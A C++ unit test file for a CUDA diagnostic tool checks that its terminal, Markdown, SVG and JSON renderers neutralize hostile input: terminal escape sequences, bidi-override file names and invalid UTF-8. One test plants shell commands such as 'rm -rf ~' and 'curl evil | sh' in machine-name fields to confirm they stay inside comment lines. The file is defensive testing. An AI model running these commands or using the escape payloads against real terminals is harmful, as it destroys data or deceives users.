// One escape per medium, fed hostile text: every renderer that prints a name, label, path or
// log excerpt from outside (check, verify, verify-installer, watch report and its memory.svg,
// fleet, explain, compare, arch, plan, opencv) is given control bytes (OSC, CSI, C0, DEL, the
// C1 CSI), bidi overrides and invalid UTF-8, and its output is checked for its medium: the
// terminal and Markdown views hold no raw ESC, C0 or C1 byte, no bidi override and only valid
// UTF-8; a Markdown table keeps its columns; the SVG files are well-formed XML (xmllint too,
// where installed); JSON parses and round-trips.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "common/text.hpp"
#include "compare/plot.hpp"
#include "compare/report.hpp"
#include "explain/render.hpp"
#include "fleet/analysis.hpp"
#include "fleet/render.hpp"
#include "gpucode/report.hpp"
#include "installer/render.hpp"
#include "integration/run_cudoctor.hpp"
#include "opencv/log_report.hpp"
#include "recipe/render.hpp"
#include "report/report.hpp"
#include "report/style.hpp"
#include "support/files.hpp"
#include "support/temp_dir.hpp"
#include "verify/report.hpp"
#include "watch/sample_log.hpp"
#include "watch/summary.hpp"
#include "watch/xid_catalog.hpp"

namespace cudoctor::test::escape_all {

using nlohmann::json;
using report::Medium;
using report::outside_text;

// The hostile texts, each alone and all together.
const std::string kOsc = "\x1b]0;owned\x07";
const std::string kClear = "\x1b[2J";
const std::string kSoh = "py\x01thon";
const std::string kDel = "rm\x7f";
const std::string kC1Csi =
    "c1\xc2\x9b"
    "31m";
const std::string kRlo =
    "evil\xe2\x80\xae"
    "txt.exe";
const std::string kLri = "iso\xe2\x81\xa6late";
const std::string kBadBytes = "bad\xff\xfe";
const std::string kCut = "euro\xe2\x82";
const std::string kMarkup = "a|b `c` <d> & \"e\" 'f' \\g";
const std::string kNonChar =
    "non\xef\xbf\xbe"
    "char";
const std::vector<std::string> kHostile = {kOsc, kClear, kSoh, kDel, kC1Csi, kRlo, kLri, kBadBytes, kCut, kMarkup, kNonChar};
/// Every hostile text in one (no line break: a CSV row or a file name can hold it).
const std::string kAll = kOsc + kClear + kSoh + kDel + kC1Csi + kRlo + kLri + kBadBytes + kCut + kMarkup + kNonChar;

/// The code points of `s`, or nullopt at the first invalid UTF-8 sequence. (The test's own
/// decoder, so the escape is not checked against itself.)
std::optional<std::vector<char32_t>> decode(std::string_view s) {
    std::vector<char32_t> out;
    for (std::size_t i = 0; i < s.size();) {
        const auto u = static_cast<unsigned char>(s[i]);
        std::size_t len = u < 0x80 ? 1 : (u & 0xe0) == 0xc0 ? 2 : (u & 0xf0) == 0xe0 ? 3 : (u & 0xf8) == 0xf0 ? 4 : 0;
        if (len == 0 || i + len > s.size()) return std::nullopt;
        char32_t cp = len == 1 ? u : len == 2 ? (u & 0x1f) : len == 3 ? (u & 0x0f) : (u & 0x07);
        for (std::size_t k = 1; k < len; ++k) {
            const auto c = static_cast<unsigned char>(s[i + k]);
            if ((c & 0xc0) != 0x80) return std::nullopt;
            cp = (cp << 6) | (c & 0x3f);
        }
        const char32_t min = len == 1 ? 0 : len == 2 ? 0x80 : len == 3 ? 0x800 : 0x10000;
        if (cp < min || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff)) return std::nullopt;
        out.push_back(cp);
        i += len;
    }
    return out;
}

/// What breaks the terminal rule in `s` ("" when nothing): invalid UTF-8, a C0 control but TAB
/// (and LF between lines), DEL, a C1 control, a bidi override or isolate.
std::string terminal_problem(std::string_view s, bool lines = true) {
    const auto cps = decode(s);
    if (!cps) return "invalid UTF-8";
    for (char32_t cp : *cps) {
        if (cp == '\t' || (lines && cp == '\n')) continue;
        if (cp < 0x20 || cp == 0x7f) return fmt::format("control byte 0x{:02x}", static_cast<unsigned>(cp));
        if (cp >= 0x80 && cp <= 0x9f) return fmt::format("C1 control U+{:04X}", static_cast<unsigned>(cp));
        if ((cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069))
            return fmt::format("bidi control U+{:04X}", static_cast<unsigned>(cp));
    }
    return {};
}

/// What breaks Markdown in `md` ("" when nothing): the terminal rule, an HTML tag that is not
/// one of ours, a table row with another number of cells than its header.
std::string markdown_problem(std::string_view whole) {
    if (auto p = terminal_problem(whole); !p.empty()) return p;
    // Code spans and fenced blocks show their text as it is ('<' is no tag there): left out of
    // the HTML check. A span runs from a run of backticks to the next run of the same length.
    std::string md;
    for (std::size_t i = 0; i < whole.size();) {
        if (whole[i] != '`') {
            md += whole[i++];
            continue;
        }
        std::size_t run = 0;
        while (i + run < whole.size() && whole[i + run] == '`') ++run;
        const std::string fence(run, '`');
        std::size_t close = whole.find(fence, i + run);
        while (close != std::string_view::npos && close + run < whole.size() && whole[close + run] == '`')
            close = whole.find(fence, close + run + 1);
        if (close == std::string_view::npos) return "an unclosed code span at " + std::string(whole.substr(i, 20));
        const auto inside = whole.substr(i + run, close - i - run);
        for (char c : inside) md += c == '|' || c == '\\' || c == '\n' ? c : 'x';  // its cell bars (escaped) and lines still count
        i = close + run;
    }
    for (std::size_t at = md.find('<'); at != std::string::npos; at = md.find('<', at + 1)) {
        bool ours = false;
        for (std::string_view tag : {"<br>", "<details>", "</details>", "<summary>", "</summary>"})
            ours |= std::string_view(md).substr(at).starts_with(tag);
        if (!ours) return "raw HTML at: " + md.substr(at, 20);
    }
    // Cells: '|' not escaped by a backslash (an escaped backslash does not escape it).
    auto cells = [](std::string_view row) {
        std::size_t n = 0;
        for (std::size_t i = 0; i < row.size(); ++i) {
            if (row[i] == '\\') ++i;
            else if (row[i] == '|') ++n;
        }
        return n;
    };
    std::size_t header = 0;
    std::istringstream in{std::string(md)};
    for (std::string line; std::getline(in, line);) {
        if (!line.starts_with("|")) {
            header = 0;
            continue;
        }
        if (header == 0) header = cells(line);
        else if (cells(line) != header)
            return "a table row with " + std::to_string(cells(line)) + " cell bars, not " + std::to_string(header) + ": " + line;
    }
    return {};
}

/// What keeps `x` from being a well-formed XML 1.0 document ("" when nothing): characters XML
/// does not allow, an entity it does not know, a '<' in text or an attribute, unbalanced tags.
std::string xml_problem(std::string_view x) {
    const auto cps = decode(x);
    if (!cps) return "invalid UTF-8";
    for (char32_t cp : *cps) {
        const bool ok =
            cp == 0x9 || cp == 0xa || cp == 0xd || (cp >= 0x20 && cp <= 0xd7ff) || (cp >= 0xe000 && cp <= 0xfffd) || cp >= 0x10000;
        if (!ok) return fmt::format("no XML character: U+{:04X}", static_cast<unsigned>(cp));
    }
    auto entity_ok = [&](std::size_t at) {
        const auto end = x.find(';', at);
        if (end == std::string_view::npos) return false;
        const auto name = x.substr(at + 1, end - at - 1);
        if (name == "amp" || name == "lt" || name == "gt" || name == "quot" || name == "apos") return true;
        if (name.size() > 1 && name[0] == '#')
            return name.substr(1).find_first_not_of(name[1] == 'x' ? "x0123456789abcdefABCDEF" : "0123456789") == std::string_view::npos;
        return false;
    };
    auto is_name = [](char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '-' || c == '_' || c == ':' || c == '.'; };
    std::vector<std::string> open;
    bool root = false;
    std::size_t i = 0;
    while (i < x.size()) {
        if (x[i] == '&') {
            if (!entity_ok(i)) return "a bare '&' at " + std::string(x.substr(i, 20));
            ++i;
        } else if (x[i] != '<') {
            if (open.empty() && !std::isspace(static_cast<unsigned char>(x[i]))) return "text outside the root element";
            ++i;
        } else if (x.substr(i).starts_with("<?") || x.substr(i).starts_with("<!--")) {
            const auto end = x.find(x[i + 1] == '?' ? "?>" : "-->", i);
            if (end == std::string_view::npos) return "an unclosed declaration or comment";
            i = end + 2;
        } else if (x.substr(i).starts_with("</")) {
            std::size_t j = i + 2;
            while (j < x.size() && is_name(x[j])) ++j;
            const std::string name(x.substr(i + 2, j - i - 2));
            if (j >= x.size() || x[j] != '>') return "a bad end tag </" + name;
            if (open.empty() || open.back() != name)
                return "</" + name + "> closes " + (open.empty() ? "nothing" : "<" + open.back() + ">");
            open.pop_back();
            i = j + 1;
        } else {
            std::size_t j = i + 1;
            while (j < x.size() && is_name(x[j])) ++j;
            const std::string name(x.substr(i + 1, j - i - 1));
            if (name.empty()) return "a '<' in text at " + std::string(x.substr(i, 20));
            if (open.empty() && root) return "a second root element <" + name + ">";
            for (;;) {
                while (j < x.size() && std::isspace(static_cast<unsigned char>(x[j]))) ++j;
                if (j >= x.size()) return "an unclosed tag <" + name;
                if (x.substr(j).starts_with("/>")) {
                    j += 2;
                    root = true;
                    break;
                }
                if (x[j] == '>') {
                    open.push_back(name);
                    root = true;
                    ++j;
                    break;
                }
                const std::size_t a = j;
                while (j < x.size() && is_name(x[j])) ++j;
                if (j == a || j + 1 >= x.size() || x[j] != '=' || (x[j + 1] != '"' && x[j + 1] != '\''))
                    return "a bad attribute in <" + name;
                const char quote = x[j + 1];
                const auto end = x.find(quote, j + 2);
                if (end == std::string_view::npos) return "an unclosed attribute in <" + name;
                for (std::size_t k = j + 2; k < end; ++k) {
                    if (x[k] == '<') return "a '<' in an attribute of <" + name;
                    if (x[k] == '&' && !entity_ok(k)) return "a bare '&' in an attribute of <" + name;
                }
                j = end + 1;
            }
            i = j;
        }
    }
    if (!open.empty()) return "<" + open.back() + "> is never closed";
    return root ? "" : "no root element";
}

/// xmllint's word on the file, where it is installed (Debian: libxml2-utils); "" when it is
/// content or absent.
std::string xmllint_problem(const std::filesystem::path& file) {
    for (const char* tool : {"/usr/bin/xmllint", "/usr/local/bin/xmllint"}) {
        if (!std::filesystem::exists(tool)) continue;
        const auto run = run_program(tool, {"--noout", file.string()}, {}, std::chrono::seconds(30));
        return run.exit_code == 0 ? "" : "xmllint: " + run.describe() + "\n" + run.err;
    }
    return {};
}

/// JSON text that parses, round-trips byte for byte and holds no raw control byte.
std::string json_problem(std::string text) {
    if (text.ends_with('\n')) text.pop_back();  // as printed
    const auto j = json::parse(text, nullptr, false);
    if (j.is_discarded()) return "not JSON";
    if (report::json_text(j) != text) return "does not round-trip";
    for (char c : text)
        if (static_cast<unsigned char>(c) < 0x20 && c != '\n') return "a raw control byte";
    return {};
}

// ---- the escapes, medium by medium ----

TEST(EscapeRenderers, TerminalEscapeLeavesNoControlNoBidiNoBrokenUtf8) {
    for (const auto& h : kHostile) {
        SCOPED_TRACE(::testing::PrintToString(h));
        const auto t = outside_text(h, Medium::terminal);
        EXPECT_EQ(terminal_problem(t, false), "") << t;
        EXPECT_EQ(outside_text(t, Medium::terminal), t);  // idempotent: a second pass changes nothing
    }
    EXPECT_EQ(outside_text(kOsc, Medium::terminal), "?]0;owned?");
    EXPECT_EQ(outside_text(kClear, Medium::terminal), "?[2J");
    EXPECT_EQ(outside_text(kSoh, Medium::terminal), "py?thon");
    EXPECT_EQ(outside_text(kDel, Medium::terminal), "rm?");
    EXPECT_EQ(outside_text(kC1Csi, Medium::terminal), "c1?31m");  // one '?' for the whole C1 character
    EXPECT_EQ(outside_text(kRlo, Medium::terminal), "evil?txt.exe");
    EXPECT_EQ(outside_text(kLri, Medium::terminal), "iso?late");
    EXPECT_EQ(outside_text(kBadBytes, Medium::terminal), "bad??");
    EXPECT_EQ(outside_text(kCut, Medium::terminal), "euro??");
    EXPECT_EQ(outside_text(kMarkup, Medium::terminal), kMarkup);  // nothing a terminal minds
    // Neighbours of the bidi controls are ordinary text: U+2029, U+202F, U+2065 stay.
    EXPECT_EQ(outside_text("\xe2\x80\xa9\xe2\x80\xaf\xe2\x81\xa5", Medium::terminal), "\xe2\x80\xa9\xe2\x80\xaf\xe2\x81\xa5");
    EXPECT_EQ(report::outside_lines("one\x1b[2J\r\ntwo\n\xe2\x80\xaethree"), "one?[2J\ntwo\n?three");
    // Error lines (text::printable, which also cuts) follow the same rule.
    for (const auto& h : kHostile) EXPECT_EQ(text::printable(h, 1000), outside_text(h, Medium::terminal)) << ::testing::PrintToString(h);
}

TEST(EscapeRenderers, MarkdownEscapeKeepsCellsCodeAndHtmlOut) {
    for (const auto& h : kHostile) {
        SCOPED_TRACE(::testing::PrintToString(h));
        EXPECT_EQ(markdown_problem("| a | " + report::markdown_cell(h) + " |\n|---|---|\n| x | " + report::markdown_cell(h) + " |\n"), "");
        EXPECT_EQ(markdown_problem("| a | b |\n|---|---|\n| x | " + report::markdown_code(h) + " |\n"), "");
    }
    EXPECT_EQ(report::markdown_cell(kMarkup), "a\\|b \\`c\\` &lt;d> & \"e\" 'f' \\\\g");
    EXPECT_EQ(report::markdown_cell("line\none"), "line<br>one");
    EXPECT_EQ(report::markdown_code("plain"), "`plain`");
    EXPECT_EQ(report::markdown_code("a `b` c"), "``a `b` c``");
    EXPECT_EQ(report::markdown_code("`x"), "`` `x ``");
    EXPECT_EQ(report::markdown_code("p|q\nr"), "`p\\|q r`");
    EXPECT_EQ(report::markdown_block("echo ```\nls" + kOsc, "sh", "  "), "  ````sh\n  echo ```\n  ls?]0;owned?\n  ````\n");
}

TEST(EscapeRenderers, SvgEscapeIsXml) {
    for (const auto& h : kHostile) {
        SCOPED_TRACE(::testing::PrintToString(h));
        const auto s = outside_text(h, Medium::svg);
        EXPECT_EQ(xml_problem("<svg a=\"" + s + "\" b='" + s + "'><title>" + s + "</title></svg>"), "") << s;
    }
    EXPECT_EQ(outside_text(kSoh, Medium::svg), "py?thon");
    EXPECT_EQ(outside_text("<a & \"b\" 'c'>", Medium::svg), "&lt;a &amp; &quot;b&quot; &apos;c&apos;&gt;");
    EXPECT_EQ(outside_text(kNonChar, Medium::svg), "non?char");
    EXPECT_EQ(outside_text("\xef\xbf\xbd", Medium::svg), "\xef\xbf\xbd");  // U+FFFD is an XML character
}

TEST(EscapeRenderers, JsonTextNeverThrowsOnBrokenUtf8) {
    json j = json::object();
    for (std::size_t i = 0; i < kHostile.size(); ++i) j["k" + std::to_string(i)] = kHostile[i];
    EXPECT_THROW((void)j.dump(), json::type_error);  // the default would
    std::string text;
    ASSERT_NO_THROW(text = report::json_text(j));
    EXPECT_EQ(json_problem(text), "");
    const auto back = json::parse(text);
    EXPECT_EQ(back["k0"], kOsc);  // valid UTF-8, control bytes and all, comes back as it was
    EXPECT_EQ(back["k5"], kRlo);
    EXPECT_EQ(back["k7"], "bad\xef\xbf\xbd\xef\xbf\xbd");  // invalid bytes: U+FFFD each
}

// ---- whole renderers ----

/// A CSV cell as any program might write it (quoted, quotes doubled): no cleaning.
std::string raw_cell(const std::string& text) {
    std::string out = "\"";
    for (char c : text) out += c == '"' ? std::string("\"\"") : std::string(1, c);
    return out + "\"";
}

/// A watch folder as a hostile program could leave it: a process named with an OSC title
/// sequence, one with SOH, a GPU name with every hostile text, an Xid line and a CUDA error
/// with them too; the folder's own name holds ESC, a bidi override and an invalid byte.
std::filesystem::path hostile_watch(const TempDir& dir) {
    const auto out = dir.path() / ("w" + kOsc + kRlo + "\xff");
    std::filesystem::create_directory(out);
    std::ofstream(out / "watch.json") << json{{"kernel_log", "/var/log/kern" + kClear + ".log"}}.dump(2, ' ', false,
                                                                                                      json::error_handler_t::replace);
    std::ofstream gpus(out / "gpus.csv"), processes(out / "processes.csv"), events(out / "events.csv");
    gpus << "time,elapsed_s,gpu,uuid,pci,name,memory_used_bytes,memory_total_bytes,util_gpu_pct,util_memory_pct,temperature_c,power_mw,"
            "sm_clock_mhz,memory_clock_mhz\n";
    processes << "time,elapsed_s,gpu,pid,name,used_memory_bytes\n";
    events << "time,elapsed_s,kind,code,gpu,pid,name,text\n";
    constexpr std::uint64_t kMiB = 1024 * 1024;
    for (int k = 0; k < 30; ++k) {
        const auto t = std::to_string(k * 60) + ".000";
        gpus << "2026-01-01T00:00:00.000Z," << t << ",0," << raw_cell("GPU-" + kSoh) << ",00000000:18:00.0," << raw_cell(kAll) << ","
             << (1000 + 20 * k) * kMiB << "," << 81559 * kMiB << ",50,10,60,250000,1980,2619\n";
        processes << "2026-01-01T00:00:00.000Z," << t << ",0,4242," << raw_cell(kOsc) << "," << (500 + 20 * k) * kMiB << "\n";
        processes << "2026-01-01T00:00:00.000Z," << t << ",0,4343," << raw_cell(kSoh) << "," << 300 * kMiB << "\n";
    }
    events << "2026-01-01T00:10:00.000Z,600.000,xid,79,0000:18:00,4242," << raw_cell(kOsc) << ","
           << raw_cell("NVRM: Xid (PCI:0000:18:00): 79, " + kAll) << "\n";
    events << "2026-01-01T00:11:00.000Z,660.000,cuda-error,0,,4242,," << raw_cell("CUDA error: " + kAll) << "\n";
    return out;
}

TEST(EscapeRenderers, WatchReportTextJsonSvgAndVerdict) {
    TempDir dir;
    const auto out = hostile_watch(dir);
    auto record = watch::read_watch_dir(out.string());
    ASSERT_TRUE(record) << record.error().message;
    EXPECT_TRUE(record->warnings.empty()) << record->warnings.front();
    auto xids = watch::XidCatalog::load(std::nullopt);
    ASSERT_TRUE(xids) << xids.error().message;
    const auto s = watch::summarise(*record, *xids, out.string());
    ASSERT_EQ(s.reports.size(), 1u);

    std::ostringstream text;
    watch::render_text(s, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    EXPECT_NE(text.str().find("pid 4242 ?]0;owned?"), std::string::npos) << text.str();
    EXPECT_NE(text.str().find("pid 4343 py?thon"), std::string::npos) << text.str();
    const auto verdict = outside_text(watch::verdict_line(s), Medium::terminal);
    EXPECT_EQ(terminal_problem(verdict, false), "") << verdict;
    EXPECT_TRUE(verdict.starts_with("✗ Xid 79 on GPU 0")) << verdict;
    EXPECT_NE(verdict.find("memory grows: pid 4242 ?]0;owned? +"), std::string::npos) << verdict;

    const auto json_out = report::json_text(watch::to_json(s));
    EXPECT_EQ(json_problem(json_out), "");

    const auto svg = watch::memory_svg(s);
    EXPECT_EQ(xml_problem(svg), "") << svg;
    EXPECT_NE(svg.find("py?thon"), std::string::npos);
    const auto file = dir.path() / "memory.svg";
    std::ofstream(file) << svg;
    EXPECT_EQ(xmllint_problem(file), "");

    // The real command on the same folder: text, -q, --json, and the memory.svg it writes.
    const auto shown = run_cudoctor({"watch", "report", out.string()});
    EXPECT_EQ(shown.exit_code, 1) << shown.describe() << shown.err;
    EXPECT_EQ(terminal_problem(shown.out), "") << shown.out;
    EXPECT_EQ(terminal_problem(shown.err), "") << shown.err;
    const auto quiet = run_cudoctor({"-q", "watch", "report", out.string()});
    EXPECT_EQ(quiet.exit_code, 1);
    EXPECT_EQ(std::count(quiet.out.begin(), quiet.out.end(), '\n'), 1) << quiet.out;
    EXPECT_EQ(terminal_problem(quiet.out), "") << quiet.out;
    const auto as_json = run_cudoctor({"watch", "report", out.string(), "--json"});
    EXPECT_EQ(json_problem(as_json.out), "") << as_json.out;
    EXPECT_EQ(xml_problem(slurp(out / "memory.svg")), "");
    EXPECT_EQ(xmllint_problem(out / "memory.svg"), "");
}

TEST(EscapeRenderers, CheckTextMarkdownJson) {
    snapshot::Snapshot snap;
    snap.tool_version = "0.1.0";
    snap.root = "/images/" + kAll;
    snap.hostname = kOsc;
    snap.overrides = {"CUDOCTOR_OVERRIDE_DRIVER_VERSION=" + kClear};
    snapshot::Gpu gpu;
    gpu.bus_id = "0000:01:00.0";
    gpu.name = "GeForce " + kAll;
    gpu.bound_driver = "nvidia";
    snap.gpus.push_back(gpu);
    snap.driver.kernel_module_version = "580.65.06";
    snap.environment.cuda_home = "/opt/" + kAll;
    snap.environment.cuda_symlink = "/usr/local/cuda-" + kRlo;
    snap.notes.push_back({"toolkit", "/usr/local/" + kOsc, "unreadable: " + kAll});
    snapshot::Finding f;
    f.id = "cuda-home-" + kMarkup;
    f.severity = snapshot::Severity::error;
    f.title = "CUDA_HOME points at /opt/" + kAll;
    f.why = "because " + kAll;
    f.fix = "export CUDA_HOME=/opt/" + kAll + "\necho ```" + kOsc;
    snap.findings.push_back(f);

    std::ostringstream text;
    report::render_text(snap, {}, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    std::ostringstream md;
    report::render_markdown(snap, md, std::string("node-" + kAll + ".json"));
    EXPECT_EQ(markdown_problem(md.str()), "") << md.str();
    EXPECT_NE(md.str().find("    ````sh\n"), std::string::npos) << md.str();  // the fix's ``` cannot close its block
    std::ostringstream js;
    report::render_json(snap, js);
    EXPECT_EQ(json_problem(js.str()), "");
}

TEST(EscapeRenderers, VerifyText) {
    verify::Report r;
    r.root = "/";
    r.levels.push_back(
        {1,
         "Driver",
         {{"nvml", "NVML on " + kAll, verify::Status::fail, "reason " + kAll, "cause " + kAll, "fix " + kAll, "", {{"library", "/lib/" + kAll}}}}});
    std::ostringstream text;
    verify::render_text(r, false, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
}

TEST(EscapeRenderers, VerifyInstallerTextJson) {
    installer::VerifyReport r;
    r.path = "/tmp/cuda_" + kAll + ".run";
    r.kind_text = "a makeself archive (\"" + kAll + "\")";
    r.name.product = "cuda";
    r.name.cuda = "12.4" + kOsc;
    r.checks.push_back({"label-" + kSoh, installer::CheckStatus::bad, "label " + kAll});
    r.verdict = installer::Verdict::header_corrupt;
    r.summary = "damaged: " + kAll;
    r.fixes = {"rm " + kAll};
    std::ostringstream text;
    installer::render_text(r, false, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    std::ostringstream js;
    ASSERT_NO_THROW(installer::render_json(r, js));
    EXPECT_EQ(json_problem(js.str()), "");
}

TEST(EscapeRenderers, FleetTextMarkdownJson) {
    std::vector<std::variant<fleet::NodeSummary, fleet::Unreadable>> in;
    for (const auto& name : {std::string("gpu01"), "gpu02" + kOsc, "gpu|" + kRlo + "`x`"}) {
        fleet::NodeSummary n;
        n.file = name + ".json";
        n.hostname = name;
        n.name = name;
        n.taken_at = "2026-12-01T00:00:00Z" + kClear;
        n.layers[static_cast<std::size_t>(fleet::Layer::driver)] = {name == "gpu01" ? "550.54.14" : "555" + kAll};
        n.findings.push_back({"rule-" + kMarkup, snapshot::Severity::warning, snapshot::Layer::platform, "title " + kAll});
        in.emplace_back(std::move(n));
    }
    in.emplace_back(fleet::Unreadable{"/snaps/" + kAll + ".json", "parse", "not JSON: " + kAll});
    const auto r = fleet::analyse(std::move(in), {});
    std::ostringstream text, md;
    fleet::render_text(r, {}, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    fleet::render_markdown(r, {}, md);
    EXPECT_EQ(markdown_problem(md.str()), "") << md.str();
    EXPECT_EQ(json_problem(report::json_text(fleet::to_json(r))), "");
}

TEST(EscapeRenderers, ExplainTextJson) {
    explain::Cause c;
    c.id = "driver-too-old";
    c.confidence = "high";
    c.title = "the driver is too old";
    c.explanation = "what it means";
    c.matched_lines.push_back({3, "RuntimeError: " + kAll, "pattern"});
    c.fix = {"sudo apt install " + kAll};
    c.evidence.push_back({"confirms", "libcuda at /lib/" + kAll});
    c.values["soname"] = {"libcudnn.so." + kOsc};
    const explain::RenderContext ctx{10, 100, "root /images/" + kAll};
    std::ostringstream text, js;
    explain::render_text({c}, ctx, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    explain::render_json({c}, ctx, js);
    EXPECT_EQ(json_problem(js.str()), "");
}

TEST(EscapeRenderers, ArchTextMarkdownJson) {
    gpucode::ArchReport r;
    r.gpus.push_back({"GeForce " + kAll, {8, 9}, "--gpu"});
    gpucode::FileResult f;
    f.scan.path = "/site/" + kAll + "/lib.so";
    f.scan.kind = "shared object";
    f.scan.problems = {"section " + kOsc + " is corrupt"};
    f.scan.sections.push_back({".nv_" + kClear, true, 1, 1, ""});
    f.verdicts.push_back({});
    r.files.push_back(f);
    r.without_gpu_code = {"/site/" + kRlo + ".so"};
    r.packages.push_back({"torch" + kSoh, "/site/" + kAll, 3, 0, gpucode::BuildEvidence{false, "torch/version.py: cuda = " + kAll}});
    r.errors.emplace_back("/missing/" + kAll, Error{Errc::not_found, "no such file: " + kAll});
    std::ostringstream text, md;
    gpucode::render_text(r, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    gpucode::render_markdown(r, md);
    EXPECT_EQ(markdown_problem(md.str()), "") << md.str();
    EXPECT_EQ(json_problem(report::json_text(gpucode::to_json(r))), "");
}

TEST(EscapeRenderers, CompareTextSvgJson) {
    compare::Comparison c;
    c.ref_path = "/dumps/ref-" + kAll + ".npz";
    c.test_path = "/dumps/test-" + kOsc + ".npz";
    c.ref_format = c.test_format = "npz";
    for (const auto& name : kHostile) {
        compare::TensorResult t;
        t.name = t.test_name = "layers." + name;
        t.ref_shape = t.test_shape = {2};
        t.compared = true;
        t.metrics.numel = 2;
        t.status = compare::Status::fail;
        t.findings = {"finding " + name};
        t.notes = {"note " + name};
        c.results.push_back(t);
    }
    c.first_failure = 0;
    c.only_ref = {"only-" + kAll};
    std::ostringstream text;
    compare::render_text(c, text, false);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    EXPECT_EQ(xml_problem(compare::render_svg(c)), "");
    EXPECT_EQ(json_problem(report::json_text(compare::to_json(c))), "");
}

TEST(EscapeRenderers, PlanTextScriptJson) {
    recipe::Recipe plan;
    plan.target.gpu_name = "GeForce " + kAll + "\nrm -rf ~";
    plan.target.compute_capability = "8.9";
    plan.target.distro.id = "ubuntu" + kOsc;
    plan.target.distro.version = "22.04\nshutdown -r now";
    plan.target.notes = {"note " + kAll};
    plan.kept.push_back({"toolkit", "CUDA 12.4 at /opt/" + kAll + "\ncurl evil | sh", "already there"});
    recipe::Request request;
    std::ostringstream text, script;
    recipe::render_text(plan, request, {}, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    recipe::render_script(plan, request, script);
    EXPECT_EQ(terminal_problem(script.str()), "") << script.str();
    // Whatever the machine's names hold, they stay inside their comment line.
    for (std::string_view injected : {"rm -rf ~", "shutdown -r now", "curl evil | sh"}) {
        std::istringstream lines(script.str());
        for (std::string line; std::getline(lines, line);) {
            if (line.find(injected) != std::string::npos) {
                EXPECT_TRUE(line.starts_with("#")) << line;
            }
        }
    }
    EXPECT_EQ(json_problem(report::json_text(recipe::to_json(plan, request, {}))), "");
}

TEST(EscapeRenderers, OpencvLogText) {
    opencv::LogReport r;
    r.log.opencv_version = "4.10.0" + kOsc;
    r.verdicts.push_back({"module " + kSoh, opencv::Status::skipped, "skipped: " + kAll, "because " + kAll, "-DWITH_" + kRlo + "=ON"});
    std::ostringstream text;
    opencv::render_text(r, text);
    EXPECT_EQ(terminal_problem(text.str()), "") << text.str();
    EXPECT_EQ(json_problem(report::json_text(opencv::to_json(r))), "");
}

}  // namespace cudoctor::test::escape_all
